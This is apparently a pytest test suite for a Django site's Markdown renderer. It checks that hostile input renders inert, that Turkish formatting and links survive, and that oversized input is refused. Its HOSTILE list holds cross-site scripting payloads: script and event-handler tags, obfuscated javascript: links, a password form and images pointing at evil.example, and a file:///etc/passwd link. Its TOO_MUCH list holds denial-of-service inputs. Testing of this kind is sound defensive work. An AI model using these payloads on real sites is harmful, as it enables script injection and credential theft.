import random
import re
import time

import pytest
from django.utils.translation import override

from knowledge import rendering
from tests.knowledge.reading import Page

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<style>@import '//evil.example'</style>",
    "<a href='javascript:alert(1)' onclick='alert(1)'>x</a>",
    "<form action='//evil.example'><input name=password></form>",
    "<math><mtext></p><script>alert(1)</script></mtext></math>",
    "<!-- --><script>alert(1)</script> <!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '[x](https://a.example "onmouseover=alert(1) \\" onclick=alert(1)")',
    '[x](https://a.example/"onclick="alert(1))',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03",
    "![x](https://evil.example/pixel.png)",
    "![x][y]\n\n[y]: https://evil.example/pixel.png",
    "![x](javascript:alert(1))",
]
BEHAVIOUR = {
    "script",
    "style",
    "img",
    "svg",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "math",
    "base",
    "meta",
    "link",
}


def faults(html: str) -> list[str]:
    """Everything in the page a browser would run, load or follow to a place we do not link to."""
    found = []
    for tag, attributes in Page(html).tags:
        found += [tag] * (tag in BEHAVIOUR)
        found += [f"{tag} {name}" for name in attributes if name.startswith("on") or name in ("style", "src", "srcset")]
        address = attributes.get("href", "https:")
        found += [address] * (not re.match(r"https?:|mailto:|#|/(?![/\\])", address, re.IGNORECASE))
    return found


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_text_is_inert(source):
    html = rendering.render(source)

    assert faults(html) == []


@pytest.mark.parametrize("source", HOSTILE[:12])
def test_typed_html_is_shown_and_not_lost(source):
    shown = " ".join(Page(rendering.render(source)).text.split())

    for word in re.findall(r"\w{5,}", source.replace("&lt;", "").replace("&gt;", "")):
        assert word in shown


def test_random_mixtures_of_dangerous_pieces_are_inert():
    pieces = [
        *HOSTILE,
        *"[]()<>!*_`#|\\\"' \n\t",
        "](",
        "<a href=",
        "javascript:",
        "&#x6a;",
        "\n\n",
        "    ",
        "> ",
        "- ",
    ]
    dice = random.Random(20260731)

    for _round in range(1500):
        source = "".join(dice.choice(pieces) for _piece in range(dice.randint(1, 12)))

        assert faults(rendering.render(source)) == [], source


def test_random_letters_are_inert_and_change_nothing_outside():
    dice = random.Random(7)

    for _round in range(300):
        source = "".join(chr(dice.choice([dice.randint(1, 127), dice.randint(128, 0x2FFF)])) for _letter in range(80))
        html = rendering.render(source)

        assert faults(html) == [], source
        assert Page(f"<main>{html}</main><hr>").texts("main") != [], source


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("**kalın** ve *eğik*", "<p><strong>kalın</strong> ve <em>eğik</em></p>"),
        ("- bir\n- iki", "<ul>\n<li>bir</li>\n<li>iki</li>\n</ul>"),
        ("3. üç\n4. dört", '<ol start="3">\n<li>üç</li>\n<li>dört</li>\n</ol>'),
        ("> alıntı", "<blockquote>\n<p>alıntı</p>\n</blockquote>"),
        ("`a < b && c`", "<p><code>a &lt; b &amp;&amp; c</code></p>"),
        ("```\nif a < b:\n    'x'\n```", "<pre><code>if a &lt; b:\n    'x'\n</code></pre>"),
        ("    girintili", "<pre><code>girintili\n</code></pre>"),
        ("Bir  \niki", "<p>Bir<br>\niki</p>"),
        ("Bir\n\n---\n\niki", "<p>Bir</p>\n<hr>\n<p>iki</p>"),
        ("# Bir", "<h2>Bir</h2>"),
        ("### Üç", "<h3>Üç</h3>"),
        ('AT&T, 5 < 6 ve "tırnak"', '<p>AT&amp;T, 5 &lt; 6 ve "tırnak"</p>'),
        ("İstanbul’da ığüşöç", "<p>İstanbul’da ığüşöç</p>"),
        ("\\*yıldız\\*", "<p>*yıldız*</p>"),
        ("", ""),
    ],
)
def test_ordinary_formatting_survives(source, html):
    assert rendering.render(source) == html


def test_a_table_keeps_its_cells_and_their_sides():
    page = Page(rendering.render("| Yıl | Tutar |\n|:---|---:|\n| 2026 | `1.000` |"))

    assert page.texts("th") == ["Yıl", "Tutar"]
    assert page.texts("td") == ["2026", "1.000"]
    assert [found.get("align") for found in page.all("td")] == ["left", "right"]


@pytest.mark.parametrize(
    ("address", "href"),
    [
        ("https://mevzuat.gov.tr/?a=1&b=2", "https://mevzuat.gov.tr/?a=1&b=2"),
        ("HTTP://example.org", "HTTP://example.org"),
        ("mailto:bilgi@example.org", "mailto:bilgi@example.org"),
        ("#basliklar", "#basliklar"),
        ("/tr/ask/", "/tr/ask/"),
    ],
)
def test_links_to_the_web_to_mail_and_to_our_own_pages_stay(address, href):
    assert Page(rendering.render(f"[bağlantı]({address})")).links == [href]


def test_every_link_keeps_its_referrer_and_its_opener_to_itself():
    rendered = Page(rendering.render("[a](https://a.example) [b](leg-001) <https://c.example>"))

    assert [found["rel"] for found in rendered.all("a")] == ["noopener noreferrer"] * 3


def test_a_key_leads_to_the_entry_in_the_readers_language():
    for language in ("tr", "en"):
        with override(language):
            assert Page(rendering.render("[bakın](leg-012)")).links == [f"/{language}/a/leg-012/"]


def test_a_mail_puts_its_host_before_our_own_addresses_only():
    rendered = rendering.render("[a](leg-012) [b](/tr/ask/) [c](https://c.example/)", host="https://bilgi.example.org")

    assert Page(rendered).links == [
        "https://bilgi.example.org/tr/a/leg-012/",
        "https://bilgi.example.org/tr/ask/",
        "https://c.example/",
    ]


def test_an_image_becomes_no_image():
    rendered = rendering.render("![logo](https://evil.example/pixel.png) ![logo][1]\n\n[1]: https://evil.example/2.png")

    assert Page(rendered).all("img") == []
    assert "logo" in rendered


TOO_MUCH = {
    "too many characters": "a" * (rendering.MAX_CHARACTERS + 1),
    "too many lines": "a\n" * (rendering.MAX_LINES + 1),
    "too many lines, the old way": "a\r" * (rendering.MAX_LINES + 1),
    "quotations": "> " * rendering.MAX_NESTING + "a",
    "quotations without spaces": ">" * rendering.MAX_NESTING + "a",
    "lists on one line": "- " * rendering.MAX_NESTING + "a",
    "numbers on one line": "1. " * 16_000 + "a",
    "numbers with marks Markdown leaves out": "1. \x02" * 12_000 + "a",
    "lists, a line each": "".join("\t" * level + "- a\n" for level in range(300)),
    "lists and quotations": "".join(" " * 4 * level + "- > a\n" for level in range(60)),
    "brackets": "[" * 20_000,
    "links that never close": "[a](b" * 10_000,
    "backticks that never close": "`\\```\\" * 8_000,
}


@pytest.mark.parametrize("source", TOO_MUCH.values(), ids=TOO_MUCH.keys())
def test_text_that_would_cost_too_much_is_refused_at_once(source):
    started = time.monotonic()

    with pytest.raises(rendering.TooMuchMarkdown) as refused:
        rendering.render(source)

    assert str(refused.value)
    assert time.monotonic() - started < 0.5


ALLOWED = {
    "the longest word": "a" * rendering.MAX_CHARACTERS,
    "the most lines": "a\n" * rendering.MAX_LINES,
    "headings": "# a\n" * rendering.MAX_LINES,
    "underlined headings": "a\n=\n" * (rendering.MAX_LINES // 2),
    "fences": "~~~a\n" * rendering.MAX_LINES,
    "brackets": "[" * 1_400,
    "links, a paragraph each": "[a](leg-001)\n\n" * 1_000,
    "stars": "**a " * 12_000,
    "underscores": "_a" * 25_000,
    "backslashes": "\\" * rendering.MAX_CHARACTERS,
    "angles": "<a " * 16_000,
    "a wide table": "|a" * 10_000 + "|\n" + "|-" * 10_000 + "|",
    "a long table": "|a|b|\n|-|-|\n" + "|`c`|[d](leg-001)|\n" * 150,
    "the deepest quotation": "> " * (rendering.MAX_NESTING - 1) + "a",
}


@pytest.mark.parametrize("source", ALLOWED.values(), ids=ALLOWED.keys())
def test_text_that_is_accepted_renders_in_two_seconds(source):
    started = time.monotonic()

    html = rendering.render(source)

    assert time.monotonic() - started < 2
    assert faults(html) == []


def test_a_long_rule_or_underline_is_not_taken_for_nesting():
    assert rendering.render("-" * 60) == "<hr>"
    assert rendering.render("Başlık\n" + "-" * 60) == "<h2>Başlık</h2>"


def test_plain_words_keep_the_words_and_lose_the_marks():
    source = "# Başlık\n\nBir **kalın** [bağlantı](leg-001) &amp; `kod`.\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |"

    assert rendering.plain(source) == "Başlık Bir kalın bağlantı & kod. a b x y 1 2"
